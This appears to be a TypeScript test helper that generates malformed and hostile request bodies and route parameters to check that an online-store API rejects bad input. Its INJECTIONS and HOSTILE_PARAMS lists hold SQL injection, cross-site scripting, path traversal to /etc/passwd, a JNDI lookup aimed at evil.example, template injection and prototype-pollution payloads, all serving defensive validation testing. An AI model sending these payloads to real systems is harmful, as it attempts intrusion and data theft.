/**
 * The shape of each field of a request body, which decides the hostile values it gets. `text` is
 * free text (a product name): injection-shaped strings are valid there and stored verbatim, so it
 * only gets values that break its type or bounds.
 */
export type FieldKind = 'id' | 'sku' | 'token' | 'count' | 'natural' | 'amount' | 'text' | 'items' | 'pricedItems' | 'payment' | 'flag';

export interface BodySpec {
  /** A valid body; each hostile variant breaks exactly one thing in a copy of it. */
  valid: () => Record<string, unknown>;
  fields: Record<string, FieldKind>;
}

/** Strings that try to escape a query, a path, a template or a log line. Every id, SKU and token pattern refuses them. */
export const INJECTIONS = [
  "'; DROP TABLE products;--",
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'x\u0000y',
  'line\nbreak',
  '🙂',
  ' ',
  '',
  'a'.repeat(5_000),
];

const WRONG_TYPES: unknown[] = [null, true, {}, [], 12345];
/** Wrong for a count that starts at 1 (`count`, `amount`); a `natural` may be 0, so it gets the same without 0. */
const WRONG_NUMBERS: unknown[] = [null, '12', 1.5, -1, 0, 1e15, true, {}, [], Number.MAX_SAFE_INTEGER];

function valuesOf(kind: FieldKind, validItem: () => Record<string, unknown>): unknown[] {
  switch (kind) {
    case 'id':
    case 'sku':
    case 'token':
      return [...WRONG_TYPES, ...INJECTIONS];
    case 'text':
      return [null, 12345, {}, [], '', 'a'.repeat(201)];
    case 'count':
    case 'amount':
      return WRONG_NUMBERS;
    case 'natural':
      return WRONG_NUMBERS.filter((value) => value !== 0);
    case 'flag':
      return ['yes', 1, {}, []];
    case 'payment':
      return [...WRONG_TYPES, 'tok_visa', {}, { token: "'; DROP TABLE authorizations;--" }, { token: 'tok_visa', extra: 1 }];
    case 'items':
    case 'pricedItems': {
      const item = validItem();
      return [
        ...WRONG_TYPES,
        'items',
        Array.from({ length: 5_000 }, (_, i) => ({ ...item, sku: `SKU-${i}` })),
        [{ ...item, quantity: -1 }],
        [{ ...item, quantity: 0 }],
        [{ ...item, quantity: 1e9 }],
        [{ ...item, quantity: 1.5 }],
        [{ ...item, quantity: '1' }],
        [{ ...item, sku: "'; DROP TABLE products;--" }],
        [{ ...item, sku: '../../etc/passwd' }],
        [{ ...item, unexpected: true }],
        [{}],
        [null],
        ...(kind === 'pricedItems' ? [[{ ...item, unitPriceCents: -5 }], [{ ...item, unitPriceCents: 1e12 }]] : []),
      ];
    }
  }
}

export interface HostileBody {
  /** What the variant breaks, for the failure message. */
  label: string;
  /** The raw body (already serialised when it is not JSON-serialisable as is). */
  body: string;
  contentType: string;
  /** A field the answer must name (for single-field variants). */
  names?: string;
}

const json = (value: unknown): string => JSON.stringify(value);

/** Every hostile variant of a body: malformed, wrong shape, each field broken one way at a time, oversized. */
export function hostileBodies(spec: BodySpec): HostileBody[] {
  const valid = spec.valid();
  const variants: HostileBody[] = [
    { label: 'malformed JSON', body: '{"clientId": "a", ', contentType: 'application/json' },
    { label: 'JSON array', body: '[]', contentType: 'application/json' },
    { label: 'JSON string', body: '"hello"', contentType: 'application/json' },
    { label: 'JSON number', body: '42', contentType: 'application/json' },
    { label: 'JSON null', body: 'null', contentType: 'application/json' },
    { label: 'empty object', body: '{}', contentType: 'application/json' },
    { label: 'unknown field', body: json({ ...valid, isAdmin: true }), contentType: 'application/json', names: 'isAdmin' },
    { label: 'prototype pollution', body: `{"__proto__": {"isAdmin": true}, ${json(valid).slice(1)}`, contentType: 'application/json' },
    { label: 'not JSON content type', body: json(valid), contentType: 'text/plain' },
    { label: 'oversized body', body: json({ ...valid, padding: 'x'.repeat(300 * 1024) }), contentType: 'application/json' },
  ];
  const itemOf = (kind: FieldKind): Record<string, unknown> => {
    const items = Object.entries(spec.fields).find(([, k]) => k === kind)?.[0];
    const first = items === undefined ? undefined : (valid[items] as Record<string, unknown>[] | undefined)?.[0];
    return first ?? { sku: 'BOOK-001', quantity: 1 };
  };
  for (const [field, kind] of Object.entries(spec.fields)) {
    const without = Object.fromEntries(Object.entries(valid).filter(([name]) => name !== field));
    variants.push({ label: `${field} missing`, body: json(without), contentType: 'application/json', names: field });
    for (const value of valuesOf(kind, () => itemOf(kind))) {
      const shown =
        typeof value === 'string' && value.length > 40
          ? `${value.slice(0, 20)}… (${value.length} chars)`
          : Array.isArray(value) && value.length > 3
            ? `[${value.length} items]`
            : json(value);
      variants.push({ label: `${field} = ${shown}`, body: json({ ...valid, [field]: value }), contentType: 'application/json', names: field });
    }
  }
  return variants;
}

/** Hostile values for a route parameter: each must be refused (400) or not found (404), never served or executed. */
export const HOSTILE_PARAMS = [
  '%27%20OR%20%271%27%3D%271',
  '..%2F..%2Fetc%2Fpasswd',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%00',
  '%F0%9F%99%82',
  '%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D',
  'a'.repeat(150),
];
